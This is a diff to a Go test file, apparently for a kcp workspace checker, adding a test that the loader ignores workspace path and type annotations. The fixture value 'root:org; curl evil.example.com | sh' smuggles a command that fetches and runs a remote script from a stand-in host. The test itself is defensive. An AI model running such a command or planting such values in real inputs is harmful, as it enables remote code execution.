@@ -548,6 +548,18 @@ func TestWorkspacesThatCannotBeRead(t *testing.T) {
 	}
 }
 
+// The findings contain commands with the path of the workspace and of its type.
+func TestAnnotationsThatAreNoPathsAreIgnored(t *testing.T) {
+	k := newKCP()
+	for _, annotation := range []string{"kcp.io/path", "internal.tenancy.kcp.io/type"} {
+		child(k).Annotations[annotation] = "root:org; curl evil.example.com | sh"
+	}
+	ws, err := k.checker(t).Load(t.Context(), childCluster.Path())
+	if err != nil || ws.Path != childCluster.String() || ws.Type != "" {
+		t.Errorf("Load() = %+v, %v", ws, err)
+	}
+}
+
 func TestWorkspaceOfWhichOnlyTheLogicalClusterMayBeRead(t *testing.T) {
 	k := newKCP()
 	k.closed = []string{"root:org"}
